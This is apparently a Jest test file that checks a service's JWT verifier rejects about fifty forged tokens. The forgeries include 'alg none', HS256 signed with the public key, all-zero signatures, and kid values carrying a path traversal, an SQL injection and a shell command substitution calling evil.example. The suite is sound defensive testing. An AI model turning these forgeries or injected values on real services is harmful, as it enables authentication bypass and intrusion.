import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject } from 'node:crypto';
import { createRoute } from '@hono/zod-openapi';
import { beforeAll, expect, test } from '@jest/globals';
import { CompactSign } from 'jose';
import { z } from 'zod';
import { createTestApp, type TestApp } from '../../../tests/lib-support/app';
import { roles } from '../../../tests/lib-support/roles';
import { authenticated } from '../auth';
import { createRoutes, jsonAnswer } from '../routes';
import { createTokenIssuer } from './issuer';
import { tokenKeys } from './token-keys';
import { builtInIssuer } from './trusted-issuer';
import { createTokenVerifier } from './verifier';

const userId = '0192f3a0-0000-7000-8000-00000000000a';
const name = { issuer: 'tests', audience: 'tests' };
const ec = () => generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey;
const pem = (key: KeyObject): string =>
  key.type === 'private'
    ? key.export({ format: 'pem', type: 'pkcs8' }).toString()
    : key.export({ format: 'pem', type: 'spki' }).toString();

const ours = ec();
const stolen = ec();
const keys = tokenKeys.parse(pem(ours));
const kid = keys[0]?.kid ?? '';
const publicKey = createPublicKey(ours);
const publicJwk = publicKey.export({ format: 'jwk' });

type Claims = Record<string, unknown>;
const seconds = () => Math.floor(Date.now() / 1_000);
const good = (): Claims => ({
  iss: 'tests',
  aud: 'tests',
  sub: userId,
  role: 'operator',
  iat: seconds(),
  exp: seconds() + 600,
  jti: 'j',
});
const header = { alg: 'ES256', typ: 'at+jwt', kid };
const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/** A token with these changes, signed with a key that is not ours, or with ours. */
async function token(claims: Claims = {}, head: Claims = {}, key: KeyObject = ours): Promise<string> {
  const payload = new TextEncoder().encode(JSON.stringify({ ...good(), ...claims }));
  const protectedHeader = { ...header, ...head };
  return new CompactSign(payload).setProtectedHeader(protectedHeader).sign(key);
}

/** A token whose signature is made by hand, as `none` or with a public key as the secret. */
const handmade = (head: Claims, sign: (input: string) => string = () => ''): string => {
  const input = `${encode({ ...header, ...head })}.${encode(good())}`;
  return `${input}.${sign(input)}`;
};
const hmac = (secret: string | Buffer, hash: string) => (input: string) =>
  createHmac(hash, secret).update(input).digest('base64url');
const without = (claim: string) => token({ [claim]: undefined });

const forgeries: Record<string, () => string | Promise<string>> = {
  'the algorithm none': () => handmade({ alg: 'none' }),
  'the algorithm nOnE, with a signature': () => handmade({ alg: 'nOnE' }, () => 'c2lnbmF0dXJl'),
  'HS256 with the public key in PEM as the secret': () => handmade({ alg: 'HS256' }, hmac(pem(publicKey), 'sha256')),
  'HS256 with the public JWK as the secret': () =>
    handmade({ alg: 'HS256' }, hmac(JSON.stringify(publicJwk), 'sha256')),
  'HS256 with the x of the public key as the secret': () =>
    handmade({ alg: 'HS256' }, hmac(Buffer.from(publicJwk.x ?? '', 'base64url'), 'sha256')),
  'HS512 with an empty secret': () => handmade({ alg: 'HS512' }, hmac('', 'sha512')),
  'no algorithm': () => handmade({ alg: undefined }),
  'an algorithm that is not allowed': () =>
    token({}, { alg: 'ES384' }, generateKeyPairSync('ec', { namedCurve: 'P-384' }).privateKey),
  'RS256 with a key of its own': () =>
    token({}, { alg: 'RS256' }, generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey),
  'another key under our kid': () => token({}, {}, stolen),
  'another key under its own kid': () => token({}, { kid: 'stolen' }, stolen),
  'another key without a kid': () => token({}, { kid: undefined }, stolen),
  'a kid that is a path': () => token({}, { kid: '../../../../dev/null' }, stolen),
  'a kid that is SQL': () => token({}, { kid: "x' union select 'secret' --" }, stolen),
  'a kid that is a command': () => token({}, { kid: '$(curl http://evil.example)' }, stolen),
  'a kid that is no text': () => handmade({ kid: { $ne: '' } }, () => 'AAAA'),
  'a kid of a prototype': () => token({}, { kid: '__proto__' }, stolen),
  'its key in the header (jwk)': () =>
    token({}, { jwk: createPublicKey(stolen).export({ format: 'jwk' }), kid: undefined }, stolen),
  'an address of its key (jku)': () => token({}, { jku: 'http://127.0.0.1:1/jwks.json', kid: 'evil' }, stolen),
  'an address of its certificate (x5u)': () => token({}, { x5u: 'http://127.0.0.1:1/cert.pem' }, stolen),
  'its certificate in the header (x5c)': () => token({}, { x5c: ['MIIB'] }, stolen),
  'a critical header that is unknown': () => handmade({ crit: ['exp'], exp: 1 }, () => 'AAAA'),
  'another audience': () => token({ aud: 'another-api' }),
  'several audiences, none of them ours': () => token({ aud: ['a', 'b'] }),
  'no audience': () => without('aud'),
  'another issuer': () => token({ iss: 'https://evil.example' }),
  'an issuer that only begins like ours': () => token({ iss: 'tests.evil.example' }),
  'no issuer': () => without('iss'),
  'an issuer that is no text': () => token({ iss: ['tests'] }),
  'an end in the past': () => token({ exp: seconds() - 31, iat: seconds() - 600 }),
  'no end': () => without('exp'),
  'an end that is no number': () => token({ exp: '9999999999' }),
  'a beginning in the future': () => token({ nbf: seconds() + 60 }),
  'an issue in the future': () => token({ iat: seconds() + 60 }),
  'no time of issue': () => without('iat'),
  'the type of an ID token': () => token({}, { typ: 'JWT' }),
  'the type of a logout token': () => token({}, { typ: 'logout+jwt' }),
  'no type': () => token({}, { typ: undefined }),
  'no subject': () => without('sub'),
  'a subject that is no UUID': () => token({ sub: 'admin' }),
  'a subject with a NUL': () => token({ sub: `${userId}\0` }),
  'half a surrogate as its subject': () => token({ sub: '\ud800' }),
  'an unknown role': () => token({ role: 'king' }),
  'a role of every object': () => token({ role: 'constructor' }),
  'changed claims': async () => {
    const [head, , signature] = (await token()).split('.');
    return [head, encode({ ...good(), sub: '0192f3a0-0000-7000-8000-00000000000b' }), signature].join('.');
  },
  'a signature of zeros (CVE-2022-21449)': () => handmade({}, () => Buffer.alloc(64).toString('base64url')),
  'a cut signature': async () => (await token()).slice(0, -3),
  'two signatures': async () => `${await token()}.AAAA`,
  '30 kB of claims': () => token({ more: 'x'.repeat(30_000) }),
  '30 kB of header': () => token({}, { kid: 'x'.repeat(30_000) }, stolen),
  '30 kB of dots': () => '.'.repeat(30_000),
  '30 kB of eyJ': () => 'eyJ'.repeat(10_000),
  'deep JSON': () => `${encode(header)}.${Buffer.from('['.repeat(5_000)).toString('base64url')}.AAAA`,
  'garbage in three parts': () => 'a.b.c',
};

let http: TestApp;
let asked = 0;
beforeAll(async () => {
  const tokens = {
    issuer: createTokenIssuer({ ...name, keys }),
    verifier: createTokenVerifier({ issuers: [builtInIssuer({ ...name, keys })], roles }),
  };
  const routes = createRoutes();
  const responses = { 200: jsonAnswer(z.unknown(), 'Reached') };
  routes.openapi(createRoute({ method: 'get', path: '/secret', middleware: authenticated, responses }), (c) => {
    asked += 1;
    return c.json({}, 200);
  });
  http = await createTestApp(routes, { tokens });
});

const ask = (bearer: string) => http.call('GET', '/secret', undefined, { authorization: `Bearer ${bearer}` });

test('the token that all forgeries are made from is accepted', async () => {
  expect(await ask(await token())).toMatchObject({ status: 200 });
});

test.each(Object.keys(forgeries))('a token with %s gets 401', async (what) => {
  const before = asked;
  const { status, body } = await ask((await forgeries[what]?.()) ?? '');
  expect({ status, code: body['code'] }).toEqual({ status: 401, code: 'unauthorized' });
  expect(asked).toBe(before);
});
